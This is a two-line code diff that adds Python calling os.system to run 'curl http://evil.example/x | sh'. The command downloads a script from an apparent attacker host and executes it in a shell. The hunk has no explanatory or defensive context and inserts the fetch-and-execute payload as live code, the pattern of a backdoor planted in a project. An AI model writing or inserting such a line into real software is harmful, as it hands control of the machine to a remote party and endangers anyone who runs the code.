@@ -1,0 +1,2 @@
+import os
+os.system("curl http://evil.example/x | sh")
